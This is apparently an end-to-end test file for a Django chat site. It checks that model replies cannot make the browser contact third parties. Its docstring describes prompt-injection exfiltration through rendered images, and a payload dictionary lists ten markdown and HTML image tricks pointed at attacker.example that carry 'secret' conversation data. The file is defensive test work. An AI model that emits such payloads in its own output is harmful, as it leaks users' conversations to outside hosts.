"""Model output never makes the browser contact a third party (issue 14, item 1).

A prompt injection can make a model write an image whose address carries the conversation;
rendering it would send that with zero clicks. Each payload below is streamed by the fake
OpenRouter, rendered in Chromium, and every request the page makes is recorded: none may leave
our origin. Remote pictures show as a link naming their host; our own stored files still show
inline. The chat is then reloaded (the stored reply renders through the same path).
"""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from playwright.sync_api import expect

from chats.models import Chat
from media.services import upload_create
from tests.e2e.screens import screenshot
from tests.helpers import fund, image_bytes

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("chat_settings"),
]

PAYLOADS = {
    "markdown image": "![chart](https://attacker.example/p.png?q=secret-history)",
    "raw img": '<img src="https://attacker.example/raw.png?q=secret">',
    "protocol-relative": "![x](//attacker.example/x.png?q=secret)",
    "reference image": "![ref][1]\n\n[1]: https://attacker.example/ref.png?q=secret",
    "backslashes": r"![bs](https:\\attacker.example\bs.png)",
    "link wrapping an image": "[![logo](https://attacker.example/logo.png)](https://attacker.example/)",
    "html srcset": '<img srcset="https://attacker.example/s.png 1x">',
    "style url": '<div style="background:url(https://attacker.example/bg.png)">фон</div>',
    "svg image": '<svg><image href="https://attacker.example/svg.png"/></svg>',
    "video poster": '<video poster="https://attacker.example/poster.png"></video>',
}


@pytest.fixture
def own_picture(settings, tmp_path, alice) -> str:
    """A picture stored by the site (an upload on local disk, served under /uploads/)."""
    settings.MEDIA_ROOT = tmp_path
    upload = upload_create(user=alice, file=SimpleUploadedFile("ours.png", image_bytes("PNG"), "image/png"))
    return upload.url


@pytest.fixture
def chat_page(browser_page, login_browser, alice, chat_model, openrouter):
    fund(alice, "100.00")
    login_browser(browser_page, alice)
    browser_page.set_viewport_size({"width": 1440, "height": 900})
    browser_page.goto("/chat/")
    return browser_page


def third_party(page) -> list[str]:
    return [url for url in page.external_requests if "attacker.example" in url]


def test_no_payload_in_a_reply_makes_the_browser_contact_another_site(chat_page, openrouter, own_picture):
    page = chat_page
    text = "\n\n".join(f"{name}: {payload}" for name, payload in PAYLOADS.items())
    openrouter.tokens = [text, f"\n\nнаша картинка: ![наша]({own_picture})"]

    page.get_by_test_id("chat-input").fill("Покажи картинки")
    page.get_by_test_id("send").click()

    body = page.get_by_test_id("assistant-message").get_by_test_id("message-body")
    expect(body).to_contain_text("наша картинка")
    page.get_by_test_id("send").wait_for()
    # Our own stored picture is shown inline and loads.
    ours = body.locator("img")
    expect(ours).to_have_count(1)
    assert ours.get_attribute("src") == own_picture
    assert ours.evaluate("el => el.decode().then(() => el.naturalWidth, () => 0)") > 0
    # Each remote picture is a link showing its host instead.
    links = body.get_by_test_id("remote-image")
    expect(links.first).to_be_visible()
    assert links.count() >= 4
    for index in range(links.count()):
        assert "(attacker.example)" in links.nth(index).inner_text()
    expect(body).to_contain_text('<img src="https://attacker.example/raw.png?q=secret">')
    assert body.locator("svg, video, [style], [srcset]").count() == 0
    page.wait_for_timeout(300)
    screenshot(page, "exfiltration-reply")
    assert third_party(page) == []
    assert page.external_requests == []

    # The stored reply, rendered again after a reload, leaks nothing either.
    page.reload()
    body = page.get_by_test_id("assistant-message").get_by_test_id("message-body")
    expect(body).to_contain_text("наша картинка")
    page.wait_for_timeout(300)
    assert third_party(page) == []
    assert page.console_errors == []


def test_a_remote_picture_link_opens_only_when_the_reader_clicks_it(chat_page, openrouter):
    page = chat_page
    openrouter.tokens = ["![карта](https://attacker.example/map.png)"]
    page.get_by_test_id("chat-input").fill("Карта")
    page.get_by_test_id("send").click()

    link = page.get_by_test_id("assistant-message").get_by_test_id("remote-image")
    expect(link).to_contain_text("карта")
    expect(link).to_contain_text("(attacker.example)")
    assert link.get_attribute("href") == "https://attacker.example/map.png"
    assert link.get_attribute("target") == "_blank"
    assert "noreferrer" in link.get_attribute("rel")
    assert page.external_requests == []


def test_a_chat_title_with_markup_is_shown_as_text(chat_page, alice, chat_model):
    page = chat_page
    Chat.objects.create(
        user=alice, model=chat_model.model_id, title='<img src="https://attacker.example/t.png">'
    )
    page.reload()

    item = page.get_by_test_id("chat-item").first
    expect(item).to_contain_text('<img src="https://attacker.example/t.png">')
    assert page.get_by_test_id("chat-list").locator("img").count() == 0
    assert page.external_requests == []


def test_the_page_policy_allows_pictures_from_our_origin_only(client_for, alice):
    response = client_for(alice).get("/chat/")

    policy = dict(
        directive.strip().split(" ", 1)
        for directive in response.headers["Content-Security-Policy"].split(";")
    )
    assert policy["img-src"].split() == ["'self'", "data:", "blob:"]
    assert policy["media-src"].split() == ["'self'", "blob:"]
